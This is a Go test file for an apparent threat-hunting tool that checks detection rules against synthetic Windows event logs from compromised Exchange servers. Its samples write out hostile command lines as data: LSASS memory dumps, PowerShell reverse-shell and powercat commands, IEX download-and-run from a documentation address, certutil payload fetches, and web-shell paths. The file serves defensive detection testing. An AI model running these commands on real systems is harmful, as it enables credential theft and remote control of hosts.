package all

import (
	"bytes"
	"cmp"
	"context"
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"postern"
	"postern/internal/exercise/eventlog"
	"postern/internal/hunt"
	"postern/internal/hunt/parse"
	"postern/internal/hunt/parse/evtx"
)

// eventOf makes an event of a channel from names and values.
func eventOf(channel, provider string, id uint16, values ...any) eventlog.Event {
	e := eventlog.Event{Time: time.Date(2021, 3, 3, 6, 59, 18, 0, time.UTC), Channel: channel, Provider: provider, ID: id, Level: 4, Computer: "EX01.contoso.test"}
	for i := 0; i+1 < len(values); i += 2 {
		e.Data = append(e.Data, eventlog.Value{Name: values[i].(string), Value: values[i+1]})
	}
	return e
}

func management(id uint16, cmdlet, parameters string, more ...string) eventlog.Event {
	e := eventOf("MSExchange Management", "MSExchange CmdletLogs", id, "", cmdlet, "", parameters)
	for _, m := range more {
		e.Data = append(e.Data, eventlog.Value{Value: m})
	}
	return e
}

const sysmonChannel = "Microsoft-Windows-Sysmon/Operational"

func sysmon(id uint16, values ...any) eventlog.Event {
	return eventOf(sysmonChannel, "Microsoft-Windows-Sysmon", id, values...)
}

func process(command string) eventlog.Event {
	return sysmon(1, "ProcessId", uint32(4242), "Image", `C:\Windows\System32\x.exe`, "CommandLine", command, "ParentImage", `C:\Windows\explorer.exe`, "ParentProcessId", uint32(7), "User", `CONTOSO\admin`)
}

// security is the same start in the log of Security.
func security(command string) eventlog.Event {
	return eventOf("Security", "Microsoft-Windows-Security-Auditing", 4688, "SubjectUserName", "admin", "NewProcessId", eventlog.Hex64(4242), "NewProcessName", `C:\Windows\System32\x.exe`,
		"ProcessId", eventlog.Hex64(7), "CommandLine", command, "ParentProcessName", `C:\Windows\explorer.exe`)
}

func defender(id uint16, name string) eventlog.Event {
	return eventOf("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", id, "Threat Name", name, "Path", `file:_C:\inetpub\wwwroot\aspnet_client\x.aspx`)
}

func block(text string) eventlog.Event {
	return eventOf("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "ScriptBlockText", text, "Path", "")
}

// shell is PowerShell as its older log has it.
func shell(command string) eventlog.Event {
	return eventOf("Windows PowerShell", "PowerShell", 400, "", "Available", "", "None", "", "NewEngineState=Available\r\n\tHostApplication="+command+"\r\n\tEngineVersion=5.1")
}

// encoded gives a command as PowerShell takes it where nobody is to read it.
func encoded(command string) string {
	var wide []byte
	for _, c := range []byte(command) {
		wide = append(wide, c, 0)
	}
	return base64.StdEncoding.EncodeToString(wide)
}

// member is somebody who becomes one of a group.
func member(id uint16, group, sid, who, by string) eventlog.Event {
	return eventOf("Security", "Microsoft-Windows-Security-Auditing", id, "MemberName", "-", "MemberSid", who, "TargetUserName", group, "TargetSid", sid, "SubjectUserName", by)
}

// level changes what an event says of its own importance.
func (e eventSample) level(l uint8) eventSample { e.event.Level = l; return e }

type eventSample struct {
	name  string
	event eventlog.Event
	want  []string // rules and levels
}

// eventSamples has an event for every rule about event logs, and what must not be
// taken for it.
func eventSamples() []eventSample {
	none := []string{}
	page := "/owa/auth/x" + ".aspx"
	markup := "http://f/<scr" + "ipt"
	return []eventSample{
		{"code in an address", management(1, "Set-OabVirtualDirectory", `-ExternalUrl "`+markup+`" -Identity "EX01\OAB (Default Web Site)"`), []string{"event-set-url 3"}},
		{"code in an address, refused", management(6, "Set-OabVirtualDirectory", `-ExternalUrl "`+markup+`"`, "error"), []string{"event-set-url 1"}},
		{"an address", management(1, "Set-OabVirtualDirectory", `-ExternalUrl "https://mail.contoso.com/OAB" -Identity "EX01\OAB"`), none},
		{"markup elsewhere", management(1, "Set-Mailbox", `-MailTip "<b>url</b>"`), none},
		{"export to a page", management(1, "New-MailboxExportRequest", `-Mailbox "a" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\x`+`.aspx"`), []string{"event-mailbox-export 4"}},
		{"export", management(1, "New-MailboxExportRequest", `-Mailbox "a" -FilePath "\\fs\pst\a.pst"`), none},
		{"certificate to a page", management(1, "New-ExchangeCertificate", `-GenerateRequest "True" -RequestFile "\\127.0.0.1\c$\x`+`.aspx"`), []string{"event-certificate-page 4"}},
		{"certificate", management(1, "New-ExchangeCertificate", `-GenerateRequest "True" -RequestFile "\\fs\cert.req"`), none},
		{"export role", management(1, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "a"`), []string{"event-import-export-role 0"}},
		{"export tidied away", management(1, "Remove-MailboxExportRequest", `-Identity "x" -Confirm "False"`), []string{"event-export-removed 0"}},
		{"transport agent", management(1, "Install-TransportAgent", `-Name "x"`), []string{"event-transport-agent 1"}},
		{"apps", management(6, "Get-App", `-Mailbox "a"`, "System.InvalidCastException: Unable to cast"), []string{"event-app-cast 2"}},
		{"directory", eventOf("Security", "Microsoft-Windows-Security-Auditing", 5136, "ObjectClass", "msExchOABVirtualDirectory", "AttributeLDAPDisplayName", "msExchExternalHostName", "AttributeValue", markup, "SubjectUserName", "EX01$"), []string{"directory-markup 3"}},
		{"directory, an address", eventOf("Security", "Microsoft-Windows-Security-Auditing", 5136, "ObjectClass", "msExchOABVirtualDirectory", "AttributeLDAPDisplayName", "msExchExternalHostName", "AttributeValue", "https://mail/OAB"), none},
		eventSample{"unified messaging", eventOf("Application", "MSExchange Unified Messaging", 1, "", "System.InvalidCastException: x"), []string{"unified-messaging-error 2"}}.level(2),
		{"unified messaging, a warning", eventOf("Application", "MSExchange Unified Messaging", 1, "", "System.InvalidCastException: x"), none},
		{"unified messaging crashes", eventOf("Application", "MSExchange Common", 4999, "", "4999", "", "UMWorkerProcess", "", "TextFormattingRunProperties"), []string{"unified-messaging-crash 2"}},
		{"another crash", eventOf("Application", "MSExchange Common", 4999, "", "4999", "", "UMWorkerProcess", "", "M.E.UM.Core"), none},
		{"page fails", eventOf("Application", "ASP.NET 4.0.30319.0", 1309, "", "3005", "", "http://localhost"+page), []string{"page-error 4"}},
		{"stock page fails", eventOf("Application", "ASP.NET 4.0.30319.0", 1309, "", "3005", "", "http://localhost/owa/auth/logon.aspx"), none},
		{"view state", eventOf("Application", "ASP.NET 4.0.30319.0", 1316, "", "4009", "", "Viewstate verification failed."), []string{"view-state 1"}},
		{"module", eventOf("Microsoft-IIS-Configuration/Operational", "Microsoft-Windows-IIS-Configuration", 29, "Configuration", "/system.webServer/modules/add[@name='x']/@name", "NewValue", "x"), []string{"iis-module 1"}},
		{"defender", defender(1116, "Backdoor:JS/Webshell.A"), []string{"defender-web-shell 4"}},
		{"defender, a command", defender(1117, "Behavior:Win32/IISExchgSpawnCMD.A"), []string{"defender-command 5"}},
		{"defender, another", defender(1117, "PUA:Win32/Toolbar"), none},
		{"defender is off", eventOf("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5001), []string{"defender-off 1"}},
		{"defender looks away", eventOf("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5007, "New Value", `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\x = 0x0`), []string{"defender-off 1"}},
		{"log cleared", eventOf("Security", "Microsoft-Windows-Eventlog", 1102, "SubjectUserName", "a"), []string{"log-cleared 1"}},
		{"log of system cleared", eventOf("System", "Microsoft-Windows-Eventlog", 104, "SubjectUserName", "a"), []string{"log-cleared-other 1"}},
		{"the same number of another provider", eventOf("System", "Microsoft-Windows-DriverFrameworks", 104), none},
		{"page written", sysmon(11, "Image", `c:\windows\system32\inetsrv\w3wp.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), []string{"page-written 4"}},
		{"page written through a share", sysmon(11, "Image", "System", "TargetFilename", `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), []string{"page-written 4"}},
		{"page compiled", sysmon(11, "Image", `c:\windows\system32\inetsrv\w3wp.exe`, "TargetFilename", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\x.compiled`), none},
		{"page exported", sysmon(11, "Image", `D:\Exchange\Bin\MSExchangeMailboxReplication.exe`, "TargetFilename", `C:\inetpub\wwwroot\aspnet_client\x`+`.aspx`), []string{"page-exported 4"}},
		{"library", sysmon(7, "Image", `c:\windows\system32\inetsrv\w3wp.exe`, "ImageLoaded", `C:\ProgramData\x.dll`, "Signed", "false"), []string{"module-loaded 4"}},
		{"signed library", sysmon(7, "Image", `c:\windows\system32\inetsrv\w3wp.exe`, "ImageLoaded", `C:\ProgramData\x.dll`, "Signed", "true"), none},
		{"memory dumped", process(`procdump64.exe -accepteula -ma lsass.exe x`), []string{"lsass-dump 6"}},
		{"memory dumped, as Security has it", security(`rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\windows\temp\x.dmp full`), []string{"lsass-dump 6"}},
		{"another library", process(`rundll32 comsvcs.dll, Something`), none},
		{"memory opened", sysmon(10, "SourceImage", `C:\x.exe`, "TargetImage", `C:\Windows\system32\lsass.exe`, "GrantedAccess", eventlog.Hex32(0x1fffff), "CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+1|C:\Windows\system32\dbgcore.DLL+2`), []string{"lsass-opened 6"}},
		{"memory opened by the task manager", sysmon(10, "SourceImage", `C:\Windows\system32\Taskmgr.exe`, "TargetImage", `C:\Windows\system32\lsass.exe`, "CallTrace", `C:\Windows\system32\dbgcore.DLL+2`), none},
		{"framed command", process(`cmd /c cd /d "C:\inetpub\wwwroot\aspnet_client"&whoami&echo [S]&cd&echo [E]`), []string{"shell-framing 5"}},
		{"page hidden", process(`attrib +h +s +r x` + `.aspx`), []string{"page-hidden 5"}},
		{"file hidden", process(`attrib +h +s desktop.ini`), none},
		{"data in the site", process(`makecab C:\windows\temp\x.dmp C:\inetpub\wwwroot\x.dmp.zip`), []string{"packed-into-site 6"}},
		{"mail packed", process(`7z a -t7z -r C:\ProgramData\it.zip C:\ProgramData\pst`), []string{"mail-packed 6"}},
		{"administrators", process(`net group "Exchange Organization administrators" administrator /del /domain`), []string{"admins-removed 6"}},
		{"remote command", process(`cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1614754758.12 2>&1`), []string{"remote-output 6"}},
		{"script with a socket", block("$c = New-Object Net.Sockets.TCPClient('x',1); $s = $c.GetStream(); $sendback = (iex $data)"), []string{"script-socket 6"}},
		{"script that exports", block(`New-MailboxExportRequest -Mailbox a -FilePath \\localhost\c$\a.pst`), []string{"script-export 6"}},
		{"script of an administrator", block(`New-MailboxExportRequest -Mailbox a -FilePath \\fs\pst\a.pst`), none},
		{"task", eventOf("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 106, "TaskName", `\Winnet`, "UserContext", "a"), []string{"task-known 6"}},
		{"task, as Security has it", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4698, "TaskName", `\VSPerfMon`, "SubjectUserName", "a"), []string{"task-known-security 6"}},
		{"service", eventOf("System", "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `%COMSPEC% /C start /b x`, "AccountName", "LocalSystem"), []string{"service-command 6"}},
		{"another service", eventOf("System", "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `C:\Program Files\x\x.exe`), none},
		{"export to a page, as the service says", eventOf("Application", "MSExchange Mailbox Replication", 1, "", `\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\x`+`.aspx`), []string{"event-replication-page 4"}},
		eventSample{"export to a page, failed", eventOf("Application", "MSExchange Mailbox Replication", 1, "", `C:\inetpub\wwwroot\x`+`.aspx`), []string{"event-replication-page 1"}}.level(2),
		{"replication", eventOf("Application", "MSExchange Mailbox Replication", 1, "", `\\fs\pst\a.pst`, "", `at d:\sources\x`+`.aspx.cs:line 7, https://mail.contoso.asp.net/EWS/mrsproxy.svc`), none},
		{"page deleted", sysmon(23, "Image", `C:\Windows\System32\cmd.exe`, "TargetFilename", `C:\inetpub\wwwroot\aspnet_client\x`+`.aspx`), []string{"page-deleted 4"}},
		{"page deleted, not kept", sysmon(26, "Image", `C:\Windows\System32\cmd.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), []string{"page-deleted 4"}},
		{"page deleted by an update", sysmon(23, "Image", `C:\Windows\System32\msiexec.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), none},
		{"stock page deleted", sysmon(23, "Image", `C:\Windows\explorer.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy\owa\auth\logon.aspx`), none},
		{"copy of a page deleted", sysmon(23, "Image", `C:\Windows\explorer.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), []string{"page-deleted 1"}},
		{"page deleted elsewhere", sysmon(23, "Image", `C:\Windows\explorer.exe`, "TargetFilename", `C:\inetpub\wwwroot\shop\x`+`.aspx`), none},
		{"passwords in clear text", sysmon(13, "TargetObject", `HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, "Details", "DWORD (0x00000001)"), []string{"clear-text 1"}},
		{"no passwords in clear text", sysmon(13, "TargetObject", `HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, "Details", "DWORD (0x00000000)"), none},
		{"folder", eventOf("Microsoft-IIS-Configuration/Operational", "Microsoft-Windows-IIS-Configuration", 29, "Configuration", "/system.applicationHost/sites/site[@name='x']/application[@path='/']/virtualDirectory[@path='/a']/@physicalPath", "NewValue", `C:\ProgramData\COM`), []string{"iis-folder 1"}},
		{"folder of a product", eventOf("Microsoft-IIS-Configuration/Operational", "Microsoft-Windows-IIS-Configuration", 29, "Configuration", "/system.applicationHost/sites/site[@name='x']/application[@path='/']/virtualDirectory[@path='/a']/@physicalPath", "NewValue", `D:\Exchange\ClientAccess\owa`), none},
		{"service of Defender", eventOf("System", "Service Control Manager", 7040, "param1", "Windows Defender", "param2", "auto start", "param3", "disabled", "param4", "WinDefend"), []string{"defender-service-off 1"}},
		{"service of Defender is back", eventOf("System", "Service Control Manager", 7040, "param1", "Windows Defender", "param2", "disabled", "param3", "auto start", "param4", "WinDefend"), none},
		{"service of updates", eventOf("System", "Service Control Manager", 7040, "param1", "x", "param2", "auto start", "param3", "disabled", "param4", "BITS"), none},
		{"administrator by the server", member(4732, "Administrators", "S-1-5-32-544", "S-1-5-21-1-2-3-1234", "EX01$"), []string{"admin-added 1"}},
		{"administrator", member(4728, "Domänen-Admins", "S-1-5-21-1-2-3-512", "S-1-5-21-1-2-3-1234", "admin"), []string{"admin-added 0"}},
		{"a server joins a domain", member(4732, "Administrators", "S-1-5-32-544", "S-1-5-21-1-2-3-512", "EX01$"), []string{"admin-added 0"}},
		{"administrator of Exchange", member(4756, "Organization Management", "S-1-5-21-1-2-3-1601", "S-1-5-21-1-2-3-1234", "EX01$"), []string{"admin-added 0"}},
		{"another group", member(4732, "Remote Desktop Users", "S-1-5-32-555", "S-1-5-21-1-2-3-1234", "EX01$"), none},
		{"hidden account", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "support$", "SubjectUserName", "admin"), []string{"account-hidden 1"}},
		{"account like the server's", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "asp.net", "SubjectUserName", "admin"), []string{"account-hidden 1"}},
		{"an account", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "j.garcia", "SubjectUserName", "admin"), none},
		{"account of guests", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4722, "TargetUserName", "Guest", "TargetSid", "S-1-5-21-1-2-3-501", "SubjectUserName", "admin"), []string{"account-opened 1"}},
		{"account enabled", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4722, "TargetUserName", "j.garcia", "TargetSid", "S-1-5-21-1-2-3-1501", "SubjectUserName", "admin"), none},
		{"script in parts", block("$c = New-Object Net.Sockets.TCPClient('x',1);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};"), []string{"script-socket 6"}},
		{"script of a tool", block("powercat -c 203.0.113.9 -p 443 -e cmd"), []string{"script-socket 6"}},
		{"script that asks for a port", block("$c = New-Object Net.Sockets.TCPClient('ex01',25); $s = $c.GetStream(); $r = New-Object IO.StreamReader($s); $r.ReadLine()"), none},
		{"words about a tool", block("# looks for powercat, nishang and others"), none},
		{"script fetched", block("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')"), []string{"script-fetched 6"}},
		{"script of an installer", block("iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/install.ps1'))"), []string{"script-fetched 1"}},
		{"script of the own network", process(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://192.168.7.1/x')"`), []string{"command-fetched 1"}},
		{"script fetched, and a remark beside", process(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x') #.DownloadString('http://10.0.0.1/')"`), []string{"command-fetched 6"}},
		{"script fetched behind a name of a user", block("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1@203.0.113.9/x')"), []string{"script-fetched 6"}},
		{"script fetched, the address in one number", block("IEX (New-Object Net.WebClient).DownloadString('http://3405803785/x')"), []string{"script-fetched 6"}},
		{"list fetched from an address", process(`certutil -urlcache -split -f http://203.0.113.9/y.crt C:\x.exe`), []string{"tool-fetched 1"}},
		{"program fetched under the name of a list", process(`certutil -urlcache -split -f http://203.0.113.9/y.exe C:\x.crt`), []string{"tool-fetched 6"}},
		{"list fetched", process(`certutil -urlcache -f http://crl.example.org/root.crl C:\root.crl`), nil},
		{"page with a name of the product deleted elsewhere", sysmon(23, "Image", `C:\Windows\System32\cmd.exe`, "TargetFilename", `C:\inetpub\wwwroot\aspnet_client\logon`+`.aspx`), []string{"page-deleted 4"}},
		{"page deleted by what is called setup", sysmon(23, "Image", `C:\ProgramData\setup.exe`, "TargetFilename", `C:\inetpub\wwwroot\aspnet_client\z`+`.aspx`), []string{"page-deleted 1"}},
		{"script fetched by a command", process(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')"`), []string{"command-fetched 6"}},
		{"script fetched, as PowerShell starts", shell("powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')"), []string{"classic-fetched 6"}},
		{"page fetched", process(`powershell -c "(New-Object Net.WebClient).DownloadString('http://203.0.113.9/health')"`), none},
		{"socket in a command", process(`powershell -c "$c=New-Object Net.Sockets.TCPClient('203.0.113.9',1);$s=$c.GetStream();iex $d"`), []string{"command-socket 6"}},
		{"socket, as PowerShell starts", shell(`powershell -c $c=New-Object Net.Sockets.TCPClient('203.0.113.9',1);$s=$c.GetStream();iex $d`), []string{"classic-socket 6"}},
		{"port asked for in a command", process(`powershell -c "(New-Object Net.Sockets.TCPClient).Connect('ex01',25)"`), none},
		{"encoded, with a socket", process(`powershell -nop -enc ` + encoded("$c=New-Object Net.Sockets.TCPClient('x',1);$s=$c.GetStream()")), []string{"encoded-command 6"}},
		{"encoded, asks for a port", process(`powershell -nop -enc ` + encoded("(New-Object Net.Sockets.TCPClient).Connect('x',1)")), []string{"encoded-command 1"}},
		{"encoded, with a web server", process(`powershell -enc ` + encoded("IEX (New-Object Net.WebClient)")), []string{"encoded-command 1"}},
		{"encoded", process(`powershell -EncodedCommand ` + encoded("Get-Service MSExchange* | Where Status -ne Running")), none},
		{"file fetched", process(`certutil -urlcache -split -f http://203.0.113.9/y.exe`), []string{"tool-fetched 6"}},
		{"file fetched from a name", process(`bitsadmin /transfer j https://example.org/y C:\y`), []string{"tool-fetched 1"}},
		{"list of certificates fetched", process(`certutil -urlcache -f http://203.0.113.9/root.crl`), []string{"tool-fetched 1"}},
		{"cache of certificates emptied", process(`certutil -urlcache * delete`), none},
		{"mail exported by a command", process(`powershell -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox a -FilePath \\fs\a.pst"`), []string{"snapin-export 1"}},
		{"commands of Exchange loaded", process(`powershell -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Queue"`), none},
		{"trusts asked for", process(`nltest /trusted_domains`), none},
		{"account", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "support$", "SubjectUserName", "EX01$", "SubjectUserSid", eventlog.SID{1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0}), []string{"account-by-server 1"}},
	}
}

// judgeEvents gives the findings of a log, with the gates of records or without.
func judgeEvents(t testing.TB, log []byte, rules hunt.HostRules, gated bool) []postern.Finding {
	t.Helper()
	var findings []postern.Finding
	opt := parse.RecordOptions{Yield: func(ev *postern.Event) { findings = append(findings, rules.LookAtRecord(ev)...) }, Channel: rules.Channel}
	if !gated {
		opt.Channel = func(name string) *parse.Channel {
			c := *rules.Channel(name)
			c.Wants = nil
			return &c
		}
	}
	if _, err := evtx.Scan(context.Background(), bytes.NewReader(log), "x.evtx", opt); err != nil {
		t.Fatal(err)
	}
	slices.SortFunc(findings, func(a, b postern.Finding) int { return cmp.Or(a.Time.Compare(b.Time), strings.Compare(a.ID, b.ID)) })
	return findings
}

func write(t testing.TB, events ...eventlog.Event) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := eventlog.Write(&b, events); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestEventLadder(t *testing.T) {
	t.Parallel()
	rows := builtIn(t)
	seen := make(map[string]bool)
	for _, s := range eventSamples() {
		for _, nested := range []bool{false, true} {
			s.event.Nested = nested
			log := write(t, s.event)
			found := judgeEvents(t, log, rows.Host(), true)
			if diff := gocmp.Diff(judgeEvents(t, log, rows.Host(), false), found); diff != "" {
				t.Errorf("%s: the gate takes something away (-without +with):\n%s", s.name, diff)
			}
			if diff := gocmp.Diff(s.want, short(found), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("%s (-want +got):\n%s", s.name, diff)
			}
			for _, f := range found {
				if len(f.Evidence) != 1 || f.Evidence[0].Record != 1 || f.Evidence[0].Excerpt == "" || f.Time.IsZero() {
					t.Errorf("%s: evidence %+v at %v", s.name, f.Evidence, f.Time)
				}
			}
		}
		for _, w := range s.want {
			rule, _, _ := strings.Cut(w, " ")
			seen[rule] = true
		}
	}
	for rule, doc := range rows.rules {
		_, id, _ := strings.Cut(doc.ID, "/")
		if len(rows.records.windows.Places(rule)) > 0 && !seen[id] {
			t.Errorf("no sample for the rule %s", doc.ID)
		}
	}
}

// Records that no rule of the packs is about are not decoded.
func TestEventGates(t *testing.T) {
	t.Parallel()
	rows := builtIn(t)
	h := rows.Host()
	for _, c := range []struct {
		channel string
		id      uint32
		wanted  bool
	}{
		{"Security", 4624, false}, {"Security", 5136, true}, {"security", 4688, true}, {"System", 7036, false}, {"System", 7045, true},
		{sysmonChannel, 3, false}, {sysmonChannel, 11, true}, {"Nobody knows", 1, false}, {"MSExchange Management", 1, true},
	} {
		if _, wanted := h.Channel(c.channel).Wants(c.id); wanted != c.wanted {
			t.Errorf("%s %d: wanted %v", c.channel, c.id, wanted)
		}
	}
	gate, _ := h.Channel(sysmonChannel).Wants(11)
	if gate == nil || gate.Pass([]byte("c:\\windows\\explorer.exe\x00c:\\x.txt\x00")) || !gate.Pass([]byte("c:\\windows\\w3wp.exe\x00c:\\inetpub\\wwwroot\\aspnet_client\\x.aspx\x00")) {
		t.Error("the gate of written files does not tell them apart")
	}
}

// The same start in two channels is one finding with both as evidence; the same
// command twice is two.
func TestOnce(t *testing.T) {
	t.Parallel()
	rows := builtIn(t)
	h := rows.Host()
	command := `procdump64.exe -accepteula -ma lsass.exe x`
	later := process(command)
	later.Time = later.Time.Add(time.Minute)
	two := security(command)
	two.Time = two.Time.Add(300 * time.Millisecond)
	var findings []postern.Finding
	for path, events := range map[string][]eventlog.Event{"sysmon.evtx": {process(command), later}, "security.evtx": {two}} {
		opt := parse.RecordOptions{Channel: h.Channel, Yield: func(ev *postern.Event) { findings = append(findings, h.LookAtRecord(ev)...) }}
		if _, err := evtx.Scan(context.Background(), bytes.NewReader(write(t, events...)), path, opt); err != nil {
			t.Fatal(err)
		}
	}
	slices.SortFunc(findings, func(a, b postern.Finding) int { return a.Time.Compare(b.Time) })
	once := h.Once(findings)
	if len(findings) != 3 || len(once) != 2 || len(once[0].Evidence) != 2 || len(once[1].Evidence) != 1 {
		t.Fatalf("%d findings, once %d: %+v", len(findings), len(once), once)
	}
	if got := findings[0].Entities["command"]; got != command {
		t.Errorf("command %q", got)
	}
}
